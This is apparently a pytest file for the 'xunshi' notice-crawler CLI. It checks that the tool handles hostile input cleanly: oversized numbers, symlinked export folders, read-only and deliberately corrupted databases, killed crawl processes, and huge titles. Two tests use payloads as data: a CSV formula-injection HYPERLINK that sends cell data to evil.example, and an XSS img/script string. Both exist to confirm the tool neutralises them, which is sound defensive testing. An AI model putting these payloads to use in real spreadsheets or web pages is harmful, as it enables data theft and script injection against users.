"""Hostile input to the command line and the database file (issue 17, items 5, 9-13, 19, 20).

Each case runs the real `xunshi` command in a subprocess, as a user would, and asserts
the answer, the exit status, that no traceback was printed and what the files hold after.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import signal
import sqlite3
import subprocess
import sys
import tempfile
import time
from datetime import date, timedelta
from pathlib import Path

import pytest

from crawler.items import Notice
from store.exports import notices_csv
from store.notices import Store
from tests.conftest import ROOT, xunshi
from tests.faults import server as fs
from tests.sitegen import COLUMN, generate_site

HUGE = "99999999999999999999"


def notice(url: str, title: str, text: str) -> Notice:
    n = Notice(site="zjsjw", url=url, title=title, published_at="2024-01-01T09:00:00+08:00",
               source=None, paragraphs=[], header=None, raw=b"<html>", encoding="utf-8", status=200,
               headers={}, fetched_at="2026-01-01T00:00:00+00:00", province="浙江省")  # fmt: skip
    n.text = text
    return n


def filled(path: Path, n: int = 2, title: str = "中共杭州市拱墅区委关于巡视整改情况的通报") -> Path:
    with Store.open(path) as store:
        run_id = store.start_run("zjsjw")
        for i in range(1, n + 1):
            store.record(notice(f"http://h/a/{i}.html", title, f"第一段{i}\n处分8人次"), run_id)
        store.record(notice("http://h/a/1.html", title, "第一段1\n处分9人次"), run_id)
        store.finish_run(run_id, "ok")
    return path


# -- 17.9 huge integers and odd digits are clear errors --------------------------------------


@pytest.mark.parametrize(
    "args",
    [
        ["show", HUGE],
        ["show", "1", "--version", HUGE],
        ["diff", HUGE],
        ["diff", "1", "--from", HUGE],
        ["report", "--run", HUGE],
        ["events", "--since", HUGE],
        ["search", "巡视", "--limit", HUGE],
        ["events", "--since", "²"],
        ["report", "--since", "2026-1-45"],
    ],
)
def test_overflowing_or_odd_numbers_are_a_clear_error(tmp_path: Path, args: list[str]) -> None:
    db = filled(tmp_path / "x.db")
    proc = xunshi(*args, "--db", str(db), check=False)
    assert proc.returncode == 2, proc.stderr
    assert "Traceback" not in proc.stderr and "Error:" in proc.stderr
    assert "OverflowError" not in proc.stderr and "ValueError" not in proc.stderr


# -- 17.10 an export folder with a link pointing outside ----------------------------------------


def test_export_into_a_folder_whose_site_folder_links_outside(tmp_path: Path) -> None:
    db = filled(tmp_path / "x.db")
    outside = tmp_path / "outside"
    outside.mkdir()
    texts = tmp_path / "texts"
    texts.mkdir()
    (texts / "zjsjw").symlink_to(outside)
    proc = xunshi("export", "--db", str(db), "--format", "txt", "-o", str(texts), check=False)
    assert proc.returncode == 1 and "Traceback" not in proc.stderr
    assert "is a link to" in proc.stderr and "nothing was written" in proc.stderr
    assert list(outside.iterdir()) == []


# -- 17.11 a read-only database can be read ---------------------------------------------------


def test_read_commands_work_on_a_database_the_user_cannot_write(
    request: pytest.FixtureRequest,
) -> None:
    if shutil.which("setpriv") is None:
        pytest.skip("setpriv (util-linux) is needed to run as an unprivileged user")
    folder = Path(tempfile.mkdtemp(prefix="xunshi-ro-"))
    request.addfinalizer(lambda: shutil.rmtree(folder, ignore_errors=True))
    db = filled(folder / "x.db")
    folder.chmod(0o755)
    db.chmod(0o644)
    before = db.read_bytes()
    nobody = (
        ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"] if os.geteuid() == 0 else []
    )
    probe = subprocess.run(
        [*nobody, sys.executable, "-c", "import cli"], cwd=ROOT, capture_output=True, timeout=60
    )
    if probe.returncode != 0:
        pytest.skip(f"an unprivileged user cannot read this checkout ({ROOT})")
    for args in (["notices"], ["events"], ["report"], ["search", "处分"], ["show", "1"],
                 ["districts"], ["export"]):  # fmt: skip
        proc = subprocess.run(
            [*nobody, sys.executable, "-m", "cli", *args, "--db", str(db)],
            cwd=ROOT, capture_output=True, text=True, timeout=60, env={**os.environ, "HOME": "/tmp"},
        )  # fmt: skip
        assert proc.returncode == 0, (args, proc.stderr)
        assert "readonly" not in proc.stderr and "Traceback" not in proc.stderr
    assert "处分9人次" in proc.stdout
    assert db.read_bytes() == before


# -- 17.12 a damaged database is detected; nothing is written to it ---------------------------


def test_a_damaged_database_is_refused_with_how_to_recover(tmp_path: Path) -> None:
    db = tmp_path / "x.db"
    with Store.open(db) as store:
        run_id = store.start_run("zjsjw")
        for i in range(300):
            store.record(notice(f"http://h/a/{i}.html", f"通报{i}", f"第{i}段。" * 200), run_id)
    conn = sqlite3.connect(db)
    conn.execute("pragma wal_checkpoint(truncate)")
    pages = conn.execute("pragma page_count").fetchone()[0]
    size = conn.execute("pragma page_size").fetchone()[0]
    conn.close()
    with db.open("r+b") as fh:
        fh.seek((pages // 2) * size)
        fh.write(os.urandom(4096))
    before = db.read_bytes()
    for args in (["notices"], ["report"], ["crawl", "zjsjw", "--start-url", "http://127.0.0.1:9/"]):
        proc = xunshi(*args, "--db", str(db), check=False)
        assert proc.returncode == 1, (args, proc.stdout, proc.stderr)
        assert "damaged" in proc.stderr and ".recover" in proc.stderr and "backup" in proc.stderr
        assert "Traceback" not in proc.stderr
    assert db.read_bytes() == before


# -- 17.13 runs whose process is gone are closed ------------------------------------------------


def test_a_run_whose_process_was_killed_is_closed_by_the_next_command(tmp_path: Path) -> None:
    db = tmp_path / "x.db"
    Store.open(db).close()
    # A process that starts a run and dies without a word (kill -9 of crawl and child).
    code = ("import os, signal; from store.notices import Store; "
            f"s = Store.open({str(db)!r}); s.start_run('zjsjw'); os.kill(os.getpid(), signal.SIGKILL)")  # fmt: skip
    subprocess.run([sys.executable, "-c", code], cwd=ROOT, timeout=60)
    before = db.read_bytes()
    report = json.loads(xunshi("report", "--db", str(db), "--format", "json").stdout)
    [run] = report["runs"]
    assert run["status"] == "interrupted" and "ended without recording" in run["error"]
    events = xunshi("report", "--db", str(db)).stdout
    assert "run interrupted" in events
    assert db.read_bytes() == before  # a read command changed nothing...
    with Store.open(db) as store:  # ...the next writer records it
        store.runs()
    conn = sqlite3.connect(db)
    assert conn.execute("select status from runs").fetchone()[0] == "interrupted"
    conn.close()


def test_crawl_and_child_killed_leave_no_run_running(tmp_path: Path) -> None:
    today = date.today()
    generate_site(tmp_path / "site", 20, paragraphs=2,
                  dates=[today - timedelta(days=40 - i) for i in range(20)])  # fmt: skip
    server = fs.FaultServer(tmp_path / "site")
    for file in (tmp_path / "site").rglob("t*_ext.html"):
        body = file.read_bytes()
        server.faults["/" + str(file.relative_to(tmp_path / "site"))] = (
            lambda b: lambda h: (time.sleep(0.3), fs.send(h, 200, b))
        )(body)
    db = tmp_path / "x.db"
    proc = subprocess.Popen(
        [sys.executable, "-m", "cli", "crawl", "zjsjw", "--db", str(db), "--start-url",
         server.base + COLUMN + "index.shtml"],
        cwd=ROOT, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )  # fmt: skip
    child = None
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and child is None:
        time.sleep(0.2)
        try:
            conn = sqlite3.connect(db, timeout=5)
            row = conn.execute("select pid from runs order by id desc limit 1").fetchone()
            stored = conn.execute("select count(*) from notices").fetchone()[0]
            conn.close()
        except sqlite3.Error:
            continue
        if row and row[0] and row[0] != proc.pid and stored >= 1:
            child = row[0]
    assert child, "the crawl never started its child"
    os.kill(proc.pid, signal.SIGKILL)
    os.kill(child, signal.SIGKILL)
    proc.wait(timeout=30)
    for _ in range(50):  # the child is reaped by init; wait until it is gone
        try:
            os.kill(child, 0)
        except ProcessLookupError:
            break
        time.sleep(0.1)
    out = xunshi("events", "--db", str(db), "--format", "json").stdout
    assert json.loads(out)  # the events are readable
    report = json.loads(xunshi("report", "--db", str(db), "--format", "json").stdout)
    assert [r["status"] for r in report["runs"]] == ["interrupted"]
    server.close()


def test_a_crawl_process_that_cannot_start_closes_its_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import crawler.run as run_module

    def no_process(*args: object, **kw: object) -> None:
        raise OSError(24, "Too many open files")

    monkeypatch.setattr(run_module.subprocess, "Popen", no_process)
    db = tmp_path / "x.db"
    with pytest.raises(OSError):
        run_module.run_crawl("zjsjw", db_path=db, start_url="http://127.0.0.1:9/")
    with Store.open(db) as store:
        [run] = store.runs()
    assert run["status"] == "failed" and "did not start" in run["error"]


# -- 17.5 (printers) a 1 MB title prints at once, trimmed ---------------------------------------


def test_a_megabyte_title_prints_at_once_in_every_table(tmp_path: Path) -> None:
    db = filled(tmp_path / "x.db", n=1, title="中共某区委关于巡视整改" + "长" * 1_000_000)
    for args in (["notices"], ["events"], ["search", "处分"], ["districts"]):
        proc = xunshi(*args, "--db", str(db), timeout=30)
        assert max(len(line) for line in proc.stdout.splitlines()) < 400, args


# -- 17.19 spreadsheet formulas in CSV ------------------------------------------------------------


def test_csv_cells_that_would_be_formulas_are_neutralised(tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    db = filled(tmp_path / "x.db", n=1, title=evil)
    for args in (["export", "--format", "csv"], ["notices", "--format", "csv"]):
        [row] = list(csv.DictReader(io.StringIO(xunshi(*args, "--db", str(db)).stdout)))
        assert row["title"] == "'" + evil, args
    for start in ("+1", "-1+1", "@SUM(A1)", "\tx", "\rx"):
        text = notices_csv([{"id": 1, "title": start}])
        assert "'" + start in text and "," + start not in text and '"' + start not in text


# -- 17.20 Markdown output escapes HTML ------------------------------------------------------------


def test_markdown_report_escapes_html_from_pages(tmp_path: Path) -> None:
    title = "通报<img src=x onerror=alert(1)><script>alert(2)</script>"
    db = filled(tmp_path / "x.db", n=1, title=title)
    md = xunshi("report", "--db", str(db)).stdout
    assert "<img" not in md and "<script" not in md
    assert "&lt;img src=x onerror=alert(1)&gt;" in md
